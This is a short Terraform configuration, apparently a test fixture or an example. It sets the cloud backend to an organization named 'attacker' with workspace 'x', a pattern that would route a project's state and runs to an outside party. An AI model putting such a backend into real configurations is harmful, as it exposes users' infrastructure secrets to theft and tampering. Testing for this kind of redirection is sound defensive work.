terraform {
  cloud {
    organization = "attacker"
    workspaces {
      name = "x"
    }
  }
}
